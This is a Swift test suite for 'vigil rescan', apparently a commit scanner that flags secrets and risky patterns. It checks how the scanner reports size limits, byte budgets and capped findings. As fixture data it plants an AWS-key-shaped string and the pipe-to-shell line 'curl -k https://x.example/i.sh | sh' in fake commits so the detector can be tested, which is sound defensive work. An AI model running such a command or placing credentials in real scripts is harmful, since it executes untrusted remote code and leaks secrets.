import Foundation
import Testing
import VigilTestSupport

/// `[scan]` limits as an operator meets them in `vigil rescan`: what was not read is an alert,
/// the scan moves on, and one commit cannot flood the output.
@Suite struct ScanLimitCommandTests {
    static let aider = FixtureRepository.Identity("Robin Ode (aider)", "robin@example.com")
    static let awsKey = "AKIAQYLPMN5HHHFPZAM2"

    /// Runs `vigil rescan` over `repository` with `config` as the config file; returns the alerts.
    static func alerts(_ repository: FixtureRepository, config: String) throws -> [[String: Any]] {
        let path = repository.root + "/vigil.toml"
        try Data(config.utf8).write(to: URL(fileURLWithPath: path))
        let result = try VigilBinary.run(["rescan", repository.path, "--config", path, "--format", "json", "--dry-run"])
        #expect(result.status == 1, "alerts exit 1: \(result.stderr)")
        return try result.jsonLines().filter { $0["kind"] as? String == "alert" }
    }

    @Test func anOldBinarySideDoesNotHideTheNewTextSide() throws {
        let repository = try FixtureRepository()
        try repository.write("deploy.sh", bytes: [0x7F, 0x45, 0x4C, 0x46, 0, 0, 0, 10])
        try repository.commit("Add deploy")
        try repository.commit(
            "Rewrite deploy", files: ["deploy.sh": "KEY=\"\(Self.awsKey)\"\ncurl -k https://x.example/i.sh | sh\n"],
            author: Self.aider)
        let checks = Set(try Self.alerts(repository, config: "").compactMap { $0["check"] as? String })
        #expect(checks.contains("secrets.aws-access-key-id"), "\(checks)")
        #expect(checks.contains("risky-pattern.pipe-to-shell"), "\(checks)")
    }

    @Test func aSideOverMaxBlobBytesIsAScanLimitAlert() throws {
        let repository = try FixtureRepository()
        let big = String(repeating: "echo padding\n", count: 100)
        try repository.commit("Add tool", files: ["tool.sh": big], author: Self.aider)
        let alerts = try Self.alerts(repository, config: "[scan]\nmax_blob_bytes = 1000\n")
        let limit = try #require(alerts.first { $0["check"] as? String == "scan-limit" })
        #expect(limit["path"] as? String == "tool.sh")
        #expect((limit["evidence"] as? String)?.contains("\(big.utf8.count)") == true, "\(limit)")
    }

    @Test func aSpentByteBudgetSkipsTheRestOfTheCommitAndTheNextCommitIsScanned() throws {
        let repository = try FixtureRepository()
        let first = try repository.commit(
            "Add both",
            files: [
                "a_data.txt": String(repeating: "0123456789\n", count: 100), "b_keys.py": "k = \"\(Self.awsKey)\"\n",
            ],
            author: Self.aider)
        let second = try repository.commit(
            "Add key", files: ["c_keys.py": "k = \"\(Self.awsKey)\"\n"], author: Self.aider)
        let alerts = try Self.alerts(repository, config: "[scan]\ncommit_byte_budget = 500\n")

        let limit = try #require(alerts.first { $0["check"] as? String == "scan-limit" })
        #expect(limit["commit"] as? String == first)
        let text = "\(limit["title"] ?? "") \(limit["evidence"] ?? "")"
        #expect(text.contains("byte budget"), "\(text)")
        #expect(text.contains("a_data.txt") && text.contains("b_keys.py"), "names what was not read: \(text)")
        let secrets = alerts.filter { ($0["check"] as? String)?.hasPrefix("secrets.") == true }
        #expect(secrets.map { $0["commit"] as? String } == [second], "the next commit is read in full")
    }

    @Test func findingsPerCheckAreCappedWithOneSummaryWithAStableId() throws {
        let repository = try FixtureRepository()
        let line = "curl -k https://x.example/i.sh | sh\n"
        try repository.commit("Install", files: ["install.sh": String(repeating: line, count: 40)], author: Self.aider)
        let config = "[scan]\nmax_findings_per_check = 5\n"
        let alerts = try Self.alerts(repository, config: config)
        let pipe = alerts.filter { $0["check"] as? String == "risky-pattern.pipe-to-shell" }
        #expect(pipe.count == 6, "five listed and one summary")
        let summary = try #require(pipe.first { $0["line"] as? Int == nil })
        #expect((summary["title"] as? String)?.contains("35") == true, "\(summary)")
        let again = try Self.alerts(repository, config: config)
        #expect(again.compactMap { $0["id"] as? String } == alerts.compactMap { $0["id"] as? String })
    }
}
